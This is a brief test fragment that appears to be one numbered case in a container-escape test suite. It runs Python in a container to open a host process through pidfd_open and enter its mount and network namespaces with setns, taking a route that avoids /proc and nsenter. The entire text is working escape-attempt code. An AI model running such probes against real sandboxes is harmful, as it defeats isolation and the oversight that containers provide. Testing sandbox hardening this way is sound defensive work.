# V38 ESC-004 without /proc/<pid>/ns and without nsenter: pidfd_open(2) of a host process, then setns(pidfd)
ctr_run simctr-infer-v38 ctr-infer --mount -- python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.pidfd_open(2)
rc = libc.setns(fd, 0x00020000 | 0x40000000)          # CLONE_NEWNS | CLONE_NEWNET
print("setns(pidfd) rc", rc, ctypes.get_errno(), open("/etc/hostname").read().strip() if rc == 0 else "")'
